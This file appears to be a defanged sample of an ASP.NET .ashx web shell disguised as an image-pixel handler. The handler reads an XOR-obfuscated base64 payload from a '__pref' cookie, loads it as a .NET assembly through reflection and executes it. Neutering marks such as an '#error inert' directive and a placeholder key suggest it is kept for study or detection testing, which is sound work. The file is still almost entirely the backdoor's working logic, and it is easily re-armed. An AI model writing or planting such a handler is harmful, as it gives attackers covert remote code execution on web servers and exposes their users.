<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System;
using System.Text;
using System.Web;

public class Pixel : IHttpHandler
{
    private static byte[] Mix(byte[] d, byte[] k)
    {
        for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ k[(i + 1) & 15]);
        return d;
    }
    public void ProcessRequest(HttpContext context)
    {
        HttpCookie ck = context.Request.Cookies["__pref"];
        if (ck == null) { context.Response.ContentType = "image/gif"; return; }
        byte[] raw = Mix(Convert.FromBase64String(ck.Value), Encoding.ASCII.GetBytes("placeholder-0000"));
        System.Reflection.Assembly.Load(raw).CreateInstance("U").Equals(context);
    }
    public bool IsReusable { get { return false; } }
}
